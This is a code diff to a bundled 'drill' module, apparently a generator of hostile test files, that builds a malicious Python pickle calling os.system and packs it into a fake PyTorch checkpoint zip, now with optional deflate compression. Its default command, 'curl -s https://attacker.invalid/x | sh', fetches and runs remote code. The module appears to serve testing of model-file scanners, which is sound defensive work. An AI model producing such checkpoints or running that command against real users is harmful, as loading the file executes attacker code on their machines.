@@ -59353,7 +59353,7 @@ var init_check = __esm({
 });
 
 // src/drill/hostile.ts
-import { crc32 } from "node:zlib";
+import { crc32, deflateRawSync } from "node:zlib";
 function osSystemPickle(cmd) {
   const arg = Buffer.from(cmd, "utf8");
   const len = Buffer.alloc(4);
@@ -59373,46 +59373,49 @@ function osSystemPickle(cmd) {
     // REDUCE, STOP
   ]);
 }
-function storedZip(members) {
+function makeZip(members) {
   const locals = [];
   const central = [];
   let offset = 0;
   for (const m2 of members) {
     const name2 = Buffer.from(m2.name, "utf8");
+    const body = m2.deflate ? deflateRawSync(m2.data) : m2.data;
     const crc = crc32(m2.data);
     const lh = Buffer.alloc(30);
     lh.writeUInt32LE(67324752, 0);
     lh.writeUInt16LE(20, 4);
     lh.writeUInt16LE(2048, 6);
+    lh.writeUInt16LE(m2.deflate ? 8 : 0, 8);
     lh.writeUInt32LE(crc, 14);
-    lh.writeUInt32LE(m2.data.length, 18);
+    lh.writeUInt32LE(body.length, 18);
     lh.writeUInt32LE(m2.data.length, 22);
     lh.writeUInt16LE(name2.length, 26);
-    locals.push(lh, name2, m2.data);
+    locals.push(lh, name2, body);
     const ch = Buffer.alloc(46);
     ch.writeUInt32LE(33639248, 0);
     ch.writeUInt16LE(20, 4);
     ch.writeUInt16LE(20, 6);
     ch.writeUInt16LE(2048, 8);
+    ch.writeUInt16LE(m2.deflate ? 8 : 0, 10);
     ch.writeUInt32LE(crc, 16);
-    ch.writeUInt32LE(m2.data.length, 20);
+    ch.writeUInt32LE(body.length, 20);
     ch.writeUInt32LE(m2.data.length, 24);
     ch.writeUInt16LE(name2.length, 28);
     ch.writeUInt32LE(offset, 42);
     central.push(ch, name2);
-    offset += 30 + name2.length + m2.data.length;
+    offset += 30 + name2.length + body.length;
   }
   const cd = Buffer.concat(central);
-  const end = Buffer.alloc(22);
-  end.writeUInt32LE(101010256, 0);
-  end.writeUInt16LE(members.length, 8);
-  end.writeUInt16LE(members.length, 10);
-  end.writeUInt32LE(cd.length, 12);
-  end.writeUInt32LE(offset, 16);
-  return Buffer.concat([...locals, cd, end]);
+  const eocd = Buffer.alloc(22);
+  eocd.writeUInt32LE(101010256, 0);
+  eocd.writeUInt16LE(members.length, 8);
+  eocd.writeUInt16LE(members.length, 10);
+  eocd.writeUInt32LE(cd.length, 12);
+  eocd.writeUInt32LE(offset, 16);
+  return Buffer.concat([...locals, cd, eocd]);
 }
 function hostileTorchCheckpoint(cmd = "curl -s https://attacker.invalid/x | sh") {
-  return storedZip([
+  return makeZip([
     { name: "archive/data.pkl", data: osSystemPickle(cmd) },
     { name: "archive/byteorder", data: Buffer.from("little") },
     { name: "archive/data/0", data: Buffer.alloc(16, 128) },
